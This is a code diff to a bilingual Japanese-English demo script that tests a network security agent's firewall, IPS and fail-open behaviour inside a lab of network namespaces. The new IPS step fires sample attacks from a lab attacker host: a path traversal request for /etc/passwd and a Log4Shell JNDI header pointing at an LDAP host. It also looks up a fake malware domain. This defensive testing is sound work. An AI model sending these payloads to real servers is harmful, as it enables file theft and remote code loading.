@@ -17,6 +17,15 @@ from agent.lab import Lab
 from agent.labrun import LabAgent
 
 SCAN_PORTS = (22, 80, 445, 3389)
+PUBLISHED = 80  # the office publishes pc1's web server to the internet
+DEMO_OVERRIDES = {
+    "engines.firewall.rules": [
+        {"name": "publish office web server", "from": "wan", "to": "lan", "dst": "192.0.2.11", "service": "tcp/80", "action": "allow"},
+        {"name": "block outbound telnet", "from": "lan", "to": "wan", "service": "telnet", "action": "reject"},
+        {"name": "block outbound SMB", "from": "lan", "to": "wan", "service": "smb", "action": "deny"},
+        {"name": "log outbound RDP", "from": "lan", "to": "wan", "service": "rdp", "action": "log"},
+    ]
+}
 
 
 def say(ja: str, en: str) -> None:
@@ -67,21 +76,21 @@ def summarize_alarms(alarms: list[dict[str, Any]]) -> None:
             counts[(rec["alert"]["signature"], rec["alert"]["action"])] += 1
     for (sig, action), n in counts.most_common():
         print(f"    {n:4d} x {action:8s} {sig}")
-    if alarms:
-        print("  最初の EVE 記録 / first EVE record:")
+    ips = [r for r in alarms if r.get("alert", {}).get("engine") == "ips"]
+    if ips:
         import json
 
-        print("    " + json.dumps(alarms[0], ensure_ascii=False))
+        print("  IPS の EVE 記録の例 / an IPS EVE record:")
+        print("    " + json.dumps(ips[0], ensure_ascii=False))
 
 
 def _servers(lab: Lab) -> None:
     lab.start_http_server("web", 80)
+    lab.start_http_server("pc1", PUBLISHED)
     lab.start_tcp_listener("web", 23)
     lab.start_tcp_listener("web", 445)
     for port in SCAN_PORTS:
-        if port == 80:
-            lab.start_http_server("pc1", 80)
-        else:
+        if port != PUBLISHED:
             lab.start_tcp_listener("pc1", port)
 
 
@@ -100,15 +109,30 @@ def _protected(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
     results["telnet rejected"] = telnet == "refused"
     results["smb dropped"] = smb == "timeout"
 
-    step(5, "インターネットからのポートスキャン", "inbound port scan from the internet")
+    step(5, "インターネットからのポートスキャン (公開中の Web サーバー 80 番以外は遮断)",
+         "inbound port scan from the internet (only the published web server, port 80, answers)")
     protected = scan(lab, pc1.ipv4)
     show_scan(protected)
-    results["scan blocked"] = not any(protected.values())
+    results["scan blocked"] = protected[PUBLISHED] and not any(v for p, v in protected.items() if p != PUBLISHED)
+
+    step(6, "公開 Web サーバーへの攻撃を IPS が遮断", "the IPS blocks attacks on the published web server")
+    for label, argv in (
+        ("normal request / 通常のアクセス", ["/"]),
+        ("path traversal / ディレクトリトラバーサル", ["/cgi-bin/../../../../etc/passwd"]),
+        ("Log4Shell header / Log4Shell 攻撃", ["/", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}"]),
+    ):
+        res = lab.exec("atk", ["curl", "-sS", "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3",
+                               *argv[1:], f"http://{pc1.ipv4}{argv[0]}"])
+        code = res.stdout.strip() if res.returncode == 0 else "blocked 遮断"
+        print(f"    {label:45s} -> {code}")
+        results[f"IPS: {label.split(' /')[0]}"] = (code == "200") == (argv == ["/"])
+    lab.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.malware.example", "A"])
+    say("LAN の PC がマルウェアのドメインを DNS で問い合わせ (警告)", "a LAN PC looked up a malware domain (alert)")
 
 
 def _fail_open(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
     web, pc1 = lab.hosts["web"], lab.hosts["pc1"]
-    step(7, "エージェントを強制終了 (kill -9) しても通信は継続", "kill -9 the agent: the office stays online (fail-open)")
+    step(8, "エージェントを強制終了 (kill -9) しても通信は継続", "kill -9 the agent: the office stays online (fail-open)")
     agent.kill()
     ok, detail = curl(lab, "pc1", f"http://{web.ipv4}/")
     say(f"Web 閲覧: {'成功' if ok else '失敗'} ({detail})", f"browsing with the agent dead: {'OK' if ok else 'FAILED'}")
@@ -116,7 +140,7 @@ def _fail_open(lab: Lab, agent: LabAgent, results: dict[str, bool]) -> None:
     say("カーネルのファイアウォール規則はエージェント停止中も有効", "the kernel firewall policy still blocks the scan while the agent is down:")
     show_scan(still)
     results["fail-open keeps browsing"] = ok
-    results["policy holds without agent"] = not any(still.values())
+    results["policy holds without agent"] = not any(v for p, v in still.items() if p != PUBLISHED)
 
 
 def run_demo(args: argparse.Namespace) -> int:
@@ -134,13 +158,13 @@ def run_demo(args: argparse.Namespace) -> int:
         show_scan(scan(lab, lab.hosts["pc1"].ipv4))
         lab.unbridge_bare()
 
-        agent = LabAgent(lab, workdir / "agent")
+        agent = LabAgent(lab, workdir / "agent", overrides=DEMO_OVERRIDES)
         try:
             agent.bridge_up()
             agent.start()
             say("エージェント起動完了", f"agent running: {agent.status()['ready']} NFQUEUE workers, config {agent.config_path}")
             _protected(lab, agent, results)
-            step(6, "警告ログ (EVE JSON)", "alarms written (EVE JSON)")
+            step(7, "警告ログ (EVE JSON)", "alarms written (EVE JSON)")
             time.sleep(1.0)
             alarms = agent.alarms()
             summarize_alarms(alarms)
@@ -148,7 +172,7 @@ def run_demo(args: argparse.Namespace) -> int:
             _fail_open(lab, agent, results)
         finally:
             agent.kill()
-            step(8, "後片付け", "tearing down (bridge down, namespaces removed)")
+            step(9, "後片付け", "tearing down (bridge down, namespaces removed)")
             agent.bridge_down()
     print("\n=== 結果 / results ===")
     for what, ok in results.items():
